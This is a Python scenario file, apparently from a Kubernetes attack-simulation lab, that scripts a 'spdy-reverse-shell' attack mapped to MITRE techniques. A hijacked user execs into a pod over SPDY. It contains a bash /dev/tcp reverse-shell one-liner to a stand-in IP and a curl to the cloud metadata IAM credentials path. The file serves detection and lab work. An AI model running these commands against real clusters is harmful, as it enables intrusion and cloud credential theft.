"""A reverse shell by exec through SPDY, as kubectl before 1.31 and most libraries stream: verb create."""

from lab.story import Scenario, Stage
from lab.streams import exec_path, spdy


def _play(stage: Stage) -> None:
    thief = stage.hijack("carol")
    running = stage.lab.running("security", "scanner")
    shell = ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.50/4444 0>&1"]
    with stage.step("open a reverse shell", thief, "execution", ("C01", "C04", "C08")):
        stage.must(spdy(thief, exec_path("security", running.name, shell, stdin=True)))
    with stage.step("with the old kubectl", stage.lab.person("carol").user, "execution", ("C01", "C05")):
        stage.kubectl(
            "carol", "exec", "-n", "shop", stage.lab.running("shop", "web").name, "--",
            "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/", old=True,
        )  # fmt: skip


SCENARIO = Scenario(
    "spdy-reverse-shell",
    "A reverse shell through SPDY",
    "attack",
    "a shell that calls home",
    ("T1609", "T1059", "T1552.005"),
    _play,
)
